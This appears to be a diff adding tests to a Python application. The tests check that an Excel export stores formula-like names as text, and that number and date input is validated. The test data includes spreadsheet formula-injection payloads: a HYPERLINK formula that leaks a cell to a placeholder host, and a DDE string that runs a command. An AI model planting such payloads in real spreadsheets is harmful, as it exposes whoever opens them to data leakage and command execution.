@@ -348,3 +348,43 @@ def test_the_excel_report_follows_the_language_and_leaves_out_names_the_user_may
     headers = [c.value for c in book["By stage"][1]]
     assert "Full name" not in headers and headers[:3] == ["Stage", "Case", "Cell"]
     assert all("Dương" not in str(c.value) for row in book["By stage"].iter_rows() for c in row)
+
+
+def test_names_that_look_like_formulas_are_exported_as_text_never_as_formulas() -> None:
+    hostile = [
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    rows = [
+        StageRow("course", f"c{i}", name, name, None, None, None, None, 0)
+        for i, name in enumerate(hostile)
+    ]
+    units = [(name, quota(1, 0)) for name in hostile]
+    book = read(workbook("vi", hostile[0], 2026, date(2026, 11, 30), units, rows))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    # Each as it was typed (XML reads a carriage return as a line feed).
+    typed = {name.replace("\r", "\n") for name in hostile}
+    assert typed <= {c.value for c in cells if isinstance(c.value, str)}
+    assert all(c.quotePrefix for c in cells if c.value in typed)
+    assert book.worksheets[0]["B2"].value == hostile[0]
+
+
+def test_a_form_s_whole_numbers_are_read_as_numbers_and_anything_else_is_refused() -> None:
+    fields = fields_of("admission", "record_cell_vote", "en", {})
+    for typed in ("5.0", "1e3", "12345678901234567890", "٣", "0x10"):
+        form = {"on": "30/11/2026", "votes_for": typed, "votes_against": "1"}
+        step, _, errors = read_step("admission", "record_cell_vote", fields, form, "en")
+        assert (step, errors.get("votes_for")) == (None, "A whole number"), typed
+
+
+def test_a_date_beyond_the_years_the_record_knows_is_no_date() -> None:
+    assert parse_dmy("31/12/9999") is None
+    assert parse_dmy("0001-01-01") is None
+    assert parse_dmy("31/12/2100") == date(2100, 12, 31)
+    assert parse_dmy("01/01/1930") == date(1930, 1, 1)
+    assert parse_dmy("1905-03-02", earliest=date(1900, 1, 1)) == date(1905, 3, 2)
